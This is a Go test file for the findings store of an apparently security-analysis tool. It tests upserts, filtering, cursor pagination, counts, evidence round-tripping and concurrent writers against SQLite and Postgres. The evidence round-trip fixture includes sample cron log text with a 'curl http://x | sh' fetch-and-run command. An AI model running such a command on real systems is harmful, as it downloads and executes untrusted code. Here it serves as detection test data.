package store

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/loupe-sec/loupe/internal/finding"
)

var (
	tactics = []struct{ name, id string }{
		{"Credential Access", "TA0006"}, {"Persistence", "TA0003"}, {"Execution", "TA0002"}, {"Discovery", "TA0007"},
	}
	base = time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC)
)

// sample makes n varied findings with deliberate ties on priority and
// first time, so ordering and pagination must fall back on the id.
func sample(n int, seed uint64) []*finding.Finding {
	r := rand.New(rand.NewPCG(seed, 1))
	out := make([]*finding.Finding, n)
	for i := range out {
		tc := tactics[r.IntN(len(tactics))]
		first := base.Add(time.Duration(r.IntN(6)) * time.Hour)
		words := []string{"sshd failed password", "New cron job", "PowerShell encoded command", "Port scan"}
		f := &finding.Finding{
			ID:         fmt.Sprintf("f%05d", r.IntN(1_000_000)*n+i), // unique, unsorted
			Tactic:     tc.name,
			TacticID:   tc.id,
			Techniques: []finding.Technique{{ID: "T1110", Name: "Brute Force"}},
			Question:   "Was " + tc.name + " attempted?",
			Conclusion: fmt.Sprintf("%s on host-%d", words[r.IntN(len(words))], r.IntN(3)),
			Priority:   finding.Priority(r.IntN(5)),
			Rule:       finding.Rule{ID: fmt.Sprintf("rule-%d", r.IntN(4)), Title: fmt.Sprintf("Rule %d_x%%", r.IntN(4))},
			Source:     "rule",
			Host:       fmt.Sprintf("host-%d", r.IntN(3)),
			User:       "root",
			First:      first,
			Last:       first.Add(time.Duration(r.IntN(120)) * time.Minute),
			Count:      int64(1 + r.IntN(50)),
			Evidence: []finding.Evidence{
				{RecordID: fmt.Sprintf("rec-%d-a", i), Time: first, Line: int64(i)},
				{RecordID: fmt.Sprintf("rec-%d-b", i), Time: first.Add(time.Second)},
			},
		}
		out[i] = f
	}
	return out
}

// order is the listing order the store promises.
func order(fs []*finding.Finding) {
	slices.SortFunc(fs, func(a, b *finding.Finding) int {
		if a.Priority != b.Priority {
			return int(b.Priority) - int(a.Priority)
		}
		if c := a.First.Compare(b.First); c != 0 {
			return c
		}
		return strings.Compare(a.ID, b.ID)
	})
}

// matches is the filter semantics, written independently of the SQL.
func matches(f *finding.Finding, flt Filter) bool {
	text := strings.ToLower(flt.Text)
	return (flt.Tactic == "" || f.Tactic == flt.Tactic || f.TacticID == flt.Tactic) &&
		f.Priority >= flt.Priority &&
		(flt.RuleID == "" || f.Rule.ID == flt.RuleID) &&
		(flt.Host == "" || f.Host == flt.Host) &&
		(flt.From.IsZero() || !f.Last.Before(flt.From)) &&
		(flt.To.IsZero() || (!f.First.IsZero() && !f.First.After(flt.To))) &&
		(text == "" || strings.Contains(strings.ToLower(f.Question), text) ||
			strings.Contains(strings.ToLower(f.Conclusion), text) || strings.Contains(strings.ToLower(f.Rule.Title), text))
}

func findingIDs(fs []*finding.Finding) []string {
	out := make([]string, len(fs))
	for i, f := range fs {
		out[i] = f.ID
	}
	return out
}

func storedIDs(fs []*Stored) []string {
	out := make([]string, len(fs))
	for i, f := range fs {
		out[i] = f.ID
	}
	return out
}

// newInvestigation makes a migrated store's investigation to hold findings.
func newInvestigation(t testing.TB, s *Store) string {
	t.Helper()
	inv, err := s.CreateInvestigation(context.Background(), Investigation{Name: t.Name()})
	if err != nil {
		t.Fatal(err)
	}
	return inv.ID
}

// all pages through a listing.
func all(t *testing.T, s *Store, inv string, flt Filter, limit int) []*Stored {
	t.Helper()
	var out []*Stored
	cursor := ""
	for pages := 0; ; pages++ {
		if pages > 10000 {
			t.Fatal("pagination does not end")
		}
		page, next, err := s.Findings(context.Background(), inv, flt, Page{Limit: limit, Cursor: cursor})
		if err != nil {
			t.Fatal(err)
		}
		if len(page) > limit {
			t.Fatalf("page of %d, limit %d", len(page), limit)
		}
		if next != "" && len(page) != limit {
			t.Fatalf("short page of %d with a next cursor", len(page))
		}
		out = append(out, page...)
		if next == "" {
			return out
		}
		cursor = next
	}
}

func TestAddFindingsUpsert(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		migrated(t, s)
		inv := newInvestigation(t, s)
		batch := sample(20, 1)
		for range 2 { // the same batch twice = once
			if err := s.AddFindings(ctx, inv, batch); err != nil {
				t.Fatal(err)
			}
		}
		got, _, err := s.Findings(ctx, inv, Filter{}, Page{Limit: 100})
		if err != nil {
			t.Fatal(err)
		}
		want := slices.Clone(batch)
		order(want)
		if fmt.Sprint(storedIDs(got)) != fmt.Sprint(findingIDs(want)) {
			t.Fatalf("after adding twice: %v\nwant %v", storedIDs(got), findingIDs(want))
		}
		for _, f := range got {
			if len(f.Evidence) != 2 {
				t.Fatalf("finding %s has %d evidence links, want 2", f.ID, len(f.Evidence))
			}
		}

		// A later summary of the same conclusion: more events, later last
		// time, other evidence.
		again := *batch[3]
		again.Count = 999
		again.Last = again.Last.Add(24 * time.Hour)
		again.Conclusion = "updated conclusion"
		again.Evidence = []finding.Evidence{{RecordID: "rec-new", Host: "host-9"}}
		if err := s.AddFindings(ctx, inv, []*finding.Finding{&again}); err != nil {
			t.Fatal(err)
		}
		got, _, _ = s.Findings(ctx, inv, Filter{}, Page{Limit: 100})
		if len(got) != 20 {
			t.Fatalf("%d findings after an update, want 20", len(got))
		}
		for _, f := range got {
			if f.ID != again.ID {
				continue
			}
			if f.Count != 999 || !f.Last.Equal(again.Last) || f.Conclusion != "updated conclusion" ||
				len(f.Evidence) != 1 || f.Evidence[0].RecordID != "rec-new" || f.Evidence[0].Host != "host-9" {
				t.Fatalf("updated finding read back as %+v", f.Finding)
			}
		}

		// One transaction per batch: a bad finding at the end stores none.
		bad := sample(5, 99)
		bad = append(bad, &finding.Finding{Question: "no id"})
		if err := s.AddFindings(ctx, inv, bad); err == nil {
			t.Fatal("a finding without id was accepted")
		}
		got, _, _ = s.Findings(ctx, inv, Filter{}, Page{Limit: 100})
		if len(got) != 20 {
			t.Fatalf("%d findings after a failed batch, want 20 (the batch must roll back)", len(got))
		}
		// Findings of an unknown investigation break the foreign key.
		if err := s.AddFindings(ctx, "no-such-investigation", sample(1, 3)); err == nil {
			t.Fatal("findings of an unknown investigation were accepted")
		}
		if err := s.Check(ctx); err != nil {
			t.Fatal(err)
		}
	})
}

func TestFilters(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		migrated(t, s)
		inv := newInvestigation(t, s)
		data := sample(300, 7)
		if err := s.AddFindings(ctx, inv, data); err != nil {
			t.Fatal(err)
		}
		// Another investigation's findings must never leak in.
		other := newInvestigation(t, s)
		if err := s.AddFindings(ctx, other, sample(50, 8)); err != nil {
			t.Fatal(err)
		}
		filters := map[string]Filter{
			"none":           {},
			"tactic name":    {Tactic: "Persistence"},
			"tactic id":      {Tactic: "TA0006"},
			"priority":       {Priority: finding.High},
			"rule":           {RuleID: "rule-2"},
			"host":           {Host: "host-1"},
			"from":           {From: base.Add(4 * time.Hour)},
			"to":             {To: base.Add(2 * time.Hour)},
			"from-to":        {From: base.Add(2 * time.Hour), To: base.Add(3 * time.Hour)},
			"text":           {Text: "POWERSHELL"},
			"text wildcards": {Text: "_x%"},
			"text nothing":   {Text: "%%nothing%%"},
			"combined": {Tactic: "Execution", Priority: finding.Medium, Host: "host-0", RuleID: "rule-1",
				From: base.Add(time.Hour), Text: "host"},
			"tactic+priority": {Tactic: "TA0003", Priority: finding.Critical},
		}
		for name, flt := range filters {
			t.Run(name, func(t *testing.T) {
				var want []*finding.Finding
				for _, f := range data {
					if matches(f, flt) {
						want = append(want, f)
					}
				}
				order(want)
				got := all(t, s, inv, flt, 40)
				if fmt.Sprint(storedIDs(got)) != fmt.Sprint(findingIDs(want)) {
					t.Fatalf("%+v:\n got %d %v\nwant %d %v", flt, len(got), storedIDs(got), len(want), findingIDs(want))
				}
				if name != "none" && name != "text wildcards" && len(want) == len(data) {
					t.Fatalf("filter %s keeps everything: the test proves nothing", name)
				}
			})
		}
	})
}

func TestPagination(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		migrated(t, s)
		inv := newInvestigation(t, s)
		data := sample(250, 11)
		// Many exact ties: two priorities, two first times.
		for i, f := range data {
			f.Priority = finding.Priority(2 + i%2)
			f.First = base.Add(time.Duration(i%3%2) * time.Minute)
		}
		if err := s.AddFindings(ctx, inv, data); err != nil {
			t.Fatal(err)
		}
		want := slices.Clone(data)
		order(want)
		for _, limit := range []int{1, 7, 250, 1000} {
			got := all(t, s, inv, Filter{}, limit)
			if fmt.Sprint(storedIDs(got)) != fmt.Sprint(findingIDs(want)) {
				t.Fatalf("limit %d: pages joined differ from the full order", limit)
			}
		}

		// Findings added while paging, ordered before the cursor, do not
		// shift later pages.
		first, next, err := s.Findings(ctx, inv, Filter{}, Page{Limit: 10})
		if err != nil {
			t.Fatal(err)
		}
		late := sample(5, 12)
		for _, f := range late {
			f.Priority = finding.Critical
		}
		if err := s.AddFindings(ctx, inv, late); err != nil {
			t.Fatal(err)
		}
		second, _, err := s.Findings(ctx, inv, Filter{}, Page{Limit: 10, Cursor: next})
		if err != nil {
			t.Fatal(err)
		}
		if fmt.Sprint(storedIDs(append(first, second...))) != fmt.Sprint(findingIDs(want[:20])) {
			t.Fatal("a finding added before the cursor shifted the next page")
		}

		for _, c := range []string{"garbage!", encodeCursor("x", "1", "id"), encodeCursor("1", "2")} {
			if _, _, err := s.Findings(ctx, inv, Filter{}, Page{Cursor: c}); !errors.Is(err, ErrBadCursor) {
				t.Fatalf("cursor %q: %v, want ErrBadCursor", c, err)
			}
		}
	})
}

func TestCounts(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		migrated(t, s)
		inv := newInvestigation(t, s)
		data := sample(200, 5)
		if err := s.AddFindings(ctx, inv, data); err != nil {
			t.Fatal(err)
		}
		if err := s.AddFindings(ctx, newInvestigation(t, s), sample(30, 6)); err != nil {
			t.Fatal(err)
		}
		wantTactic := map[string]int64{}
		wantPrio := map[finding.Priority]int64{}
		for _, f := range data {
			wantTactic[f.Tactic]++
			wantPrio[f.Priority]++
		}
		byTactic, err := s.CountByTactic(ctx, inv)
		if err != nil {
			t.Fatal(err)
		}
		byPrio, err := s.CountByPriority(ctx, inv)
		if err != nil {
			t.Fatal(err)
		}
		if fmt.Sprint(byTactic) != fmt.Sprint(wantTactic) {
			t.Errorf("by tactic %v, want %v", byTactic, wantTactic)
		}
		if fmt.Sprint(byPrio) != fmt.Sprint(wantPrio) {
			t.Errorf("by priority %v, want %v", byPrio, wantPrio)
		}
		if n, err := s.CountByTactic(ctx, "empty"); err != nil || len(n) != 0 {
			t.Errorf("counts of an unknown investigation: %v, %v", n, err)
		}
	})
}

func TestEvidenceRoundTrip(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		migrated(t, s)
		inv := newInvestigation(t, s)
		tokyo := time.FixedZone("JST", 9*3600)
		in := &finding.Finding{
			ID:         "ünï-🔥-1",
			Tactic:     "Persistence",
			TacticID:   "TA0003",
			Techniques: []finding.Technique{{ID: "T1053.003", Name: "Scheduled Task/Job: Cron"}, {ID: "T1543", Name: "Create or Modify System Process"}},
			Question:   "誰がcronジョブを追加しましたか？",
			Conclusion: "مستخدم root added a cron job \"* * * * * curl|sh\" 'quoted' \\ back",
			Priority:   finding.Critical,
			Rule:       finding.Rule{ID: "r-42", Title: "Cron persistence", Author: "Zoë", Link: "https://example.org/r?x=1&y=2", Level: "high"},
			Source:     "sigma",
			Host:       "hôst-1",
			User:       "root",
			First:      time.Date(2024, 2, 29, 23, 59, 59, 999999999, tokyo),
			Last:       time.Date(2024, 3, 1, 0, 0, 1, 1, tokyo),
			Count:      1 << 40,
			Evidence: []finding.Evidence{
				{RecordID: "rec-1", Index: "logs-2024.02", Line: 1 << 35, Time: time.Date(2024, 2, 29, 23, 59, 59, 999999999, tokyo),
					Host: "hôst-1", User: "root", Summary: "CRON[123]: (root) CMD (curl http://x | sh) — 🚨"},
				{RecordID: "rec-2"}, // zero time and empty fields stay so
				{RecordID: "rec-3", Time: time.Date(1601, 1, 1, 0, 0, 0, 0, time.UTC)}, // before 1678: clamped
			},
		}
		prov := Provenance{Provider: "ollama", Model: "llama3.1:8b", PromptVersion: "analyze_v1"}
		if err := s.AddFindingsBy(ctx, inv, prov, []*finding.Finding{in}); err != nil {
			t.Fatal(err)
		}
		got, next, err := s.Findings(ctx, inv, Filter{}, Page{})
		if err != nil || next != "" || len(got) != 1 {
			t.Fatalf("Findings: %d, next %q, %v", len(got), next, err)
		}
		out := got[0]
		if out.Provenance != prov {
			t.Errorf("provenance %+v, want %+v", out.Provenance, prov)
		}
		if out.ID != in.ID || out.Tactic != in.Tactic || out.TacticID != in.TacticID || out.Question != in.Question ||
			out.Conclusion != in.Conclusion || out.Priority != in.Priority || out.Rule != in.Rule || out.Source != in.Source ||
			out.Host != in.Host || out.User != in.User || out.Count != in.Count ||
			fmt.Sprint(out.Techniques) != fmt.Sprint(in.Techniques) {
			t.Errorf("finding read back as\n%+v\nwant\n%+v", out.Finding, in)
		}
		for _, tm := range []struct {
			name      string
			got, want time.Time
		}{{"first", out.First, in.First}, {"last", out.Last, in.Last}} {
			if !tm.got.Equal(tm.want) || tm.got.Location() != time.UTC {
				t.Errorf("%s time %v, want %v in UTC", tm.name, tm.got, tm.want)
			}
		}
		if len(out.Evidence) != len(in.Evidence) {
			t.Fatalf("%d evidence links, want %d", len(out.Evidence), len(in.Evidence))
		}
		for i, e := range out.Evidence {
			w := in.Evidence[i]
			if !w.Time.IsZero() && w.Time.Year() < 1678 {
				w.Time = minTime
			}
			if e.RecordID != w.RecordID || e.Index != w.Index || e.Line != w.Line || e.Host != w.Host ||
				e.User != w.User || e.Summary != w.Summary || !e.Time.Equal(w.Time) || e.Time.IsZero() != w.Time.IsZero() {
				t.Errorf("evidence %d read back as %+v, want %+v", i, e, w)
			}
			if !e.Time.IsZero() && e.Time.Location() != time.UTC {
				t.Errorf("evidence %d time not in UTC: %v", i, e.Time)
			}
		}

		// A deterministic finding stored later has no provenance.
		if err := s.AddFindings(ctx, inv, sample(1, 4)); err != nil {
			t.Fatal(err)
		}
		got, _, _ = s.Findings(ctx, inv, Filter{Priority: finding.Info, RuleID: "rule-0"}, Page{})
		for _, f := range got {
			if f.Provenance != (Provenance{}) {
				t.Errorf("finding %s has provenance %+v", f.ID, f.Provenance)
			}
		}
	})
}

func TestConcurrentWriters(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		migrated(t, s)
		const writers, batches, size = 2, 15, 20
		invs := make([]string, writers)
		for i := range invs {
			invs[i] = newInvestigation(t, s)
		}
		var wg sync.WaitGroup
		errs := make(chan error, writers)
		for w := range writers {
			wg.Go(func() {
				for b := range batches {
					fs := sample(size, uint64(w*1000+b))
					for i, f := range fs {
						f.ID = fmt.Sprintf("w%d-b%02d-%02d", w, b, i)
					}
					if err := s.AddFindings(ctx, invs[w], fs); err != nil {
						errs <- err
						return
					}
					if err := s.UpdateProgress(ctx, invs[w], int64(b*100), int64((b+1)*size)); err != nil {
						errs <- err
						return
					}
					// A reader in between.
					if _, _, err := s.Findings(ctx, invs[1-w], Filter{Priority: finding.Medium}, Page{Limit: 5}); err != nil {
						errs <- err
						return
					}
				}
			})
		}
		wg.Wait()
		close(errs)
		for err := range errs {
			t.Fatal(err)
		}
		for _, inv := range invs {
			n, err := s.CountByPriority(ctx, inv)
			if err != nil {
				t.Fatal(err)
			}
			var total int64
			for _, c := range n {
				total += c
			}
			got, _ := s.GetInvestigation(ctx, inv)
			if total != batches*size || got.Findings != batches*size {
				t.Errorf("investigation %s: %d findings stored, progress says %d; want %d", inv, total, got.Findings, batches*size)
			}
		}
		if err := s.Check(ctx); err != nil {
			t.Fatal(err)
		}
	})
}

func TestCheckFindsOrphans(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *Store) {
		ctx := context.Background()
		migrated(t, s)
		inv := newInvestigation(t, s)
		if err := s.AddFindings(ctx, inv, sample(3, 2)); err != nil {
			t.Fatal(err)
		}
		if err := s.Check(ctx); err != nil {
			t.Fatalf("Check on a sound database: %v", err)
		}
		// Break a reference behind the database's back.
		conn, err := s.db.Conn(ctx)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		off, on := "PRAGMA foreign_keys = OFF", "PRAGMA foreign_keys = ON"
		if s.dialect == postgres {
			off, on = "SET session_replication_role = replica", "SET session_replication_role = DEFAULT"
		}
		mustExec(t, conn, off)
		mustExec(t, conn, s.rebind("INSERT INTO evidence (investigation_id, finding_id, seq, record_id) VALUES (?, 'gone', 0, 'r')"), inv)
		mustExec(t, conn, on)
		err = s.Check(ctx)
		if err == nil {
			t.Fatal("Check missed evidence without its finding")
		}
		t.Logf("Check: %v", err)
	})
}

func mustExec(t *testing.T, c *sql.Conn, q string, args ...any) {
	t.Helper()
	if _, err := c.ExecContext(context.Background(), q, args...); err != nil {
		t.Fatal(err)
	}
}
